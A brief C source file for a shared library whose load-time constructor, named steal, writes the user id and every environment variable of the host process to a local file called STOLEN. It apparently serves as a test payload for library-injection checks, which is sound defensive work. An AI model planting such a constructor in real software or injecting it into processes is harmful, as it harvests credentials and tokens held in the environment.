/* A library that writes the environment of the process that loads it to STOLEN. */
#include <stdio.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void steal(void) {
  FILE *file = fopen("STOLEN", "w");
  if (!file) return;
  fprintf(file, "user %d\n", getuid());
  for (char **variable = environ; *variable; variable++) fprintf(file, "%s\n", *variable);
  fclose(file);
}
